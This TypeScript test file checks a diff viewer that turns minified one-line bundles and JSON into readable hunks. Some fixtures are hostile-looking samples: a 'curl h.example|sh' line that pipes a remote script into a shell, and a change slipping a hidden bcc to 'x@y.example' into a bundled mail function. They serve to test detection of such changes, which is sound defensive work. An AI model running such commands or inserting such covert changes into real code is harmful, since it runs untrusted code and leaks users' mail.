import assert from "node:assert/strict";
import { test } from "node:test";
import { changeOf } from "../../src/diff/change.js";
import { type FileView, locate, viewsOf } from "../../src/diff/view.js";
import { treeFrom } from "../helpers/trees.js";

function viewFrom(before: string, after: string, path = "dist/index.js"): FileView {
  const [view] = viewsOf(changeOf(treeFrom({ [path]: before }), treeFrom({ [path]: after })));
  assert.ok(view !== undefined);
  return view;
}

/** A statement of no interest, on one line with the others. */
const filler = (n: number): string => `function f${n}(a,b){var c=a+${n};return c*b+"text ${n}"}`;
const bundle = (inner: string): string =>
  `"use strict";${Array.from({ length: 20 }, (_, n) => filler(n)).join("")}${inner}module.exports={f0,f1};`;

const shownHunks = (view: FileView): string[] =>
  view.hunks.flatMap(({ beforeLine, beforeCount, afterLine, afterCount }) => [
    ...view.before.lines.slice(beforeLine - 1, beforeLine - 1 + beforeCount).map((line) => `-${line}`),
    ...view.after.lines.slice(afterLine - 1, afterLine - 1 + afterCount).map((line) => `+${line}`),
  ]);

test("a change in a bundle of one line is a few lines, with its place in the shipped file", () => {
  const mail = "function send(m){return post({to:m.to,subject:m.subject})}";
  const view = viewFrom(bundle(mail), bundle(mail.replace("subject:", "bcc:'x@y.example',subject:")));
  assert.equal(view.form, "readable");
  assert.deepEqual(shownHunks(view), [
    "-  return post({ to: m.to, subject: m.subject })",
    "+  return post({ to: m.to, bcc: 'x@y.example', subject: m.subject })",
  ]);
  const after = bundle(mail.replace("subject:", "bcc:'x@y.example',subject:"));
  const index = view.hunks[0]?.afterLine ?? 0;
  const column = view.after.lines[index - 1]?.indexOf("'x@y") ?? -1;
  assert.deepEqual(view.after.place(index - 1, column), { line: 1, column: after.indexOf("'x@y") + 1 });
  assert.equal(locate(view, "after", 1, after.indexOf("'x@y") + 1), index - 1);
});

test("renamed variables and other layout are folded and counted", () => {
  const before = bundle("function g(a){var b=a.one,c=a.two;return [b,c]}");
  const after = bundle("function g(t){var e=t.one,n=t.two;return[e,n]}").replaceAll('"', "'");
  const view = viewFrom(before, after);
  assert.deepEqual(shownHunks(view), []);
  assert.ok(view.folded.renames > 0 && view.folded.layout > 0);
});

test("a name that means another variable is no renaming", () => {
  const before = bundle("function g(a,b){log(b);return a.secret}");
  const view = viewFrom(before, bundle("function g(a,b){log(a);return a.secret}"));
  assert.deepEqual(shownHunks(view), ["-  log(b);", "+  log(a);"]);
});

test("swapped values show even where the line that uses them is the same", () => {
  const before = bundle("function g(){var a=safe(1);var b=other(2);return use(a)}");
  const view = viewFrom(before, bundle("function g(){var b=safe(1);var a=other(2);return use(a)}"));
  const shown = shownHunks(view).join("\n");
  assert.match(shown, /use\(a\)/);
  assert.match(shown, /-.*a = safe/);
});

test("JSON on one line has a member a line", () => {
  const json = (value: number): string =>
    JSON.stringify({ list: Array.from({ length: 200 }, (_, i) => ({ i, value: i === 7 ? value : i })) });
  const view = viewFrom(json(1), json(2), "data.json");
  assert.deepEqual(shownHunks(view), ['-      "value": 1', '+      "value": 2']);
});

test("what does not parse is cut where statements likely end, and says so", () => {
  const view = viewFrom(`${bundle("let a = 1;")}}}{`, `${bundle("let a = 2;")}}}{`);
  assert.deepEqual(shownHunks(view), ["-let a = 1;", "+let a = 2;"]);
  assert.match(view.remarks.join(), /syntax error.*cut/);
});

test("blanks and line ends of texts without a grammar are shown as changed", () => {
  const long = `# ${"x".repeat(450)}; `;
  const python = viewFrom(`${long}\nif a:\n  b()\n  c()\n`, `${long}y\nif a:\n  b()\nc()\n`, "a.py");
  assert.equal(python.form, "readable");
  assert.ok(shownHunks(python).includes("-  c()") && shownHunks(python).includes("+c()"));
  const shell = viewFrom(`${long}curl h.example|sh\n`, `${long}\ncurl h.example|sh\n`, "a.sh");
  assert.ok(shell.added > 0);
  const code = viewFrom(`${long}}{ \`a  b\\\n c\``, `${long}}{ \`a  b\\\n  c\``, "a.js");
  assert.deepEqual(shownHunks(code), ["- c`", "+  c`"]);
});

test("functions without a body, as TypeScript declares them, are broken into lines like others", () => {
  const members = Array.from(
    { length: 30 },
    (_, n) => `constructor(first${n}: string, second: number); m${n}?(): void;`,
  );
  const declarations = (name: string): string =>
    `export declare class Client extends Base { ${members.join(" ")} abstract send(${name}: Mail): void; }\n`;
  const view = viewFrom(declarations("mail"), declarations("letter"), "dist/index.d.ts");
  assert.equal(view.form, "readable");
  assert.deepEqual(shownHunks(view), ["- abstract send(mail: Mail): void;", "+ abstract send(letter: Mail): void;"]);
});
